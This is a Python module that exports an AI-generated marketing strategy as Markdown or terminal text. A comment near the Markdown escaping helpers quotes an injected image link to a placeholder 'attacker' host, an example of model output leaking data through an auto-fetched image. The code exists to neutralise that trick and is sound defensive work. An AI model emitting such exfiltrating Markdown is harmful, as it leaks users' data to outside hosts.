"""A finished task's strategy as Markdown, JSON or terminal text.

Steps are always in ``step_number`` order (the model may write them in any order),
and each channel's share is shown with its amount in EUR out of ``required_budget``.
Headings are in the strategy's language (Romanian or English).
"""

from __future__ import annotations

import re
from typing import Any

from cli.errors import CliError, Exit

LABELS = {
    "en": {
        "audience": "Target audience",
        "budget": "Budget",
        "timeline": "Timeline",
        "weeks": "weeks",
        "summary": "Summary",
        "steps": "Steps",
        "channels": "Channels",
        "channel": "Channel",
        "share": "Share",
        "amount": "Amount",
        "why": "Why",
        "kpis": "KPIs",
        "messages": "Key messages",
        "visual": "Visual brief",
        "sources": "Sources",
        "task": "Task",
        "model": "model",
        "cost": "Cost",
    },
    "ro": {
        "audience": "Public țintă",
        "budget": "Buget",
        "timeline": "Durată",
        "weeks": "săptămâni",
        "summary": "Rezumat",
        "steps": "Pași",
        "channels": "Canale",
        "channel": "Canal",
        "share": "Pondere",
        "amount": "Sumă",
        "why": "De ce",
        "kpis": "Indicatori (KPI)",
        "messages": "Mesaje cheie",
        "visual": "Descrierea imaginii",
        "sources": "Surse",
        "task": "Sarcina",
        "model": "model",
        "cost": "Cost",
    },
}


def labels_for(language: str | None) -> dict[str, str]:
    return LABELS["ro"] if (language or "").lower().startswith("ro") else LABELS["en"]


def eur(amount: float, language: str | None = "en") -> str:
    """``EUR 12,500`` (en) or ``12.500 EUR`` (ro); cents only when there are any."""
    cents = abs(amount - round(amount)) >= 0.005
    text = f"{amount:,.2f}" if cents else f"{round(amount):,}"
    if (language or "").lower().startswith("ro"):
        text = text.replace(",", "\0").replace(".", ",").replace("\0", ".")
        return f"{text} EUR"
    return f"EUR {text}"


def percent(share: float) -> str:
    value = share * 100
    return f"{value:.0f}%" if abs(value - round(value)) < 0.05 else f"{value:.1f}%"


def strategy_of(task: dict[str, Any]) -> dict[str, Any]:
    """The strategy of a COMPLETED task, with its steps in step_number order."""
    result = task.get("result") or {}
    strategy = result.get("strategy")
    if not isinstance(strategy, dict):
        status = task.get("status", "?")
        detail = ""
        if task.get("error"):
            detail = f": {task['error'].get('code')}: {task['error'].get('message')}"
        raise CliError(
            f"task {task.get('task_id', '?')} has no strategy (it is {status}{detail})",
            Exit.REFUSED,
            code="failed_precondition",
        )
    steps = sorted(strategy.get("steps") or [], key=lambda s: int(s.get("step_number") or 0))
    return {**strategy, "steps": steps}


# Model text is text in the export, never Markdown or HTML of its own (issue 18: an
# injected `![x](https://attacker/?d=...)` would be fetched by whatever opens the file).
# CommonMark lets any ASCII punctuation be backslash-escaped: these are the ones that
# start images, links, HTML, emphasis, code or tables; "://", "www." and "@" are broken
# too, so that no autolink appears. Links come only from the task's recorded sources.
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>!|~&#])")
_AUTOLINK = re.compile(r"(:)(?=//)|(?<=www)(\.)|(@)", re.IGNORECASE)


def md_text(text: Any) -> str:
    """One line of model text, as literal text in Markdown."""
    flat = " ".join(str(text).split())
    escaped = _MARKDOWN_SPECIAL.sub(r"\\\1", flat)
    return _AUTOLINK.sub(lambda match: "\\" + match.group(), escaped)


def _cell(text: Any) -> str:
    return md_text(text)


def to_markdown(task: dict[str, Any]) -> str:
    strategy = strategy_of(task)
    language = (task.get("request") or {}).get("language")
    words = labels_for(language)
    budget = float(strategy.get("required_budget") or 0)
    lines = [f"# {md_text(strategy.get('strategy_name', ''))}", ""]
    lines.append(f"- **{words['audience']}:** {md_text(strategy.get('target_audience', ''))}")
    lines.append(f"- **{words['budget']}:** {eur(budget, language)}")
    if strategy.get("timeline_weeks"):
        lines.append(f"- **{words['timeline']}:** {strategy['timeline_weeks']} {words['weeks']}")
    lines.append("")
    if strategy.get("summary"):
        lines += [f"## {words['summary']}", "", md_text(strategy["summary"]), ""]
    lines += [f"## {words['steps']}", ""]
    lines += [
        f"{int(s.get('step_number') or 0)}. {md_text(s.get('description', ''))}"
        for s in strategy["steps"]
    ]
    lines.append("")
    channels = strategy.get("channels") or []
    if channels:
        lines += [
            f"## {words['channels']}",
            "",
            f"| {words['channel']} | {words['share']} | {words['amount']} | {words['why']} |",
            "|---|---:|---:|---|",
        ]
        for channel in channels:
            share = float(channel.get("budget_share") or 0)
            lines.append(
                f"| {_cell(channel.get('name', ''))} | {percent(share)} "
                f"| {eur(share * budget, language)} | {_cell(channel.get('rationale', ''))} |"
            )
        lines.append("")
    for key, label in (("kpis", "kpis"), ("key_messages", "messages")):
        items = strategy.get(key) or []
        if items:
            lines += [f"## {words[label]}", ""] + [f"- {md_text(item)}" for item in items] + [""]
    if strategy.get("visual_brief"):
        lines += [f"## {words['visual']}", "", md_text(strategy["visual_brief"]), ""]
    sources = (task.get("result") or {}).get("sources") or []
    if sources:
        lines += [f"## {words['sources']}", ""]
        for source in sources:
            label = source.get("title") or source.get("domain") or source.get("url")
            url = _link_target(source.get("url"))
            status = md_text(source.get("status"))
            lines.append(
                f"- [{md_text(label)}]({url}) ({status})" if url else f"- {md_text(label)}"
            )
        lines.append("")
    model = (task.get("result") or {}).get("model")
    footer = f"{words['task']} `{task.get('task_id', '')}`"
    lines.append(f"_{footer}, {words['model']} {model}_" if model else f"_{footer}_")
    cost = (task.get("result") or {}).get("cost")
    if cost:
        amount = f"{float(cost.get('amount') or 0):.4f} {md_text(cost.get('currency') or 'EUR')}"
        lines += ["", f"_{words['cost']}: {amount}_"]
    return "\n".join(lines) + "\n"


def _link_target(url: Any) -> str | None:
    """A recorded source's URL as a Markdown link target (<...>, spaces and brackets
    percent-encoded), or None when it is not http(s)."""
    text = str(url or "")
    if not re.match(r"https?://", text, re.IGNORECASE):
        return None
    return "<" + re.sub(r"[<>\s]", lambda m: f"%{ord(m.group()):02X}", text) + ">"


def to_text(task: dict[str, Any]) -> str:
    """The strategy for a terminal."""
    strategy = strategy_of(task)
    language = (task.get("request") or {}).get("language")
    words = labels_for(language)
    budget = float(strategy.get("required_budget") or 0)
    lines = [
        f"== {strategy.get('strategy_name', '')} ==",
        f"{words['audience']}: {strategy.get('target_audience', '')}",
        f"{words['budget']}: {eur(budget, language)}",
    ]
    if strategy.get("timeline_weeks"):
        lines.append(f"{words['timeline']}: {strategy['timeline_weeks']} {words['weeks']}")
    if strategy.get("summary"):
        lines += ["", str(strategy["summary"])]
    lines += ["", f"{words['steps']}:"]
    lines += [f"  {s.get('step_number')}. {s.get('description', '')}" for s in strategy["steps"]]
    channels = strategy.get("channels") or []
    if channels:
        lines += ["", f"{words['channels']}:"]
        for channel in channels:
            share = float(channel.get("budget_share") or 0)
            lines.append(
                f"  - {channel.get('name', '')} ({percent(share)}, {eur(share * budget, language)})"
                f": {channel.get('rationale', '')}"
            )
    for key, label in (("key_messages", "messages"), ("kpis", "kpis")):
        items = strategy.get(key) or []
        if items:
            lines += ["", f"{words[label]}:"] + [f"  - {item}" for item in items]
    return "\n".join(lines)
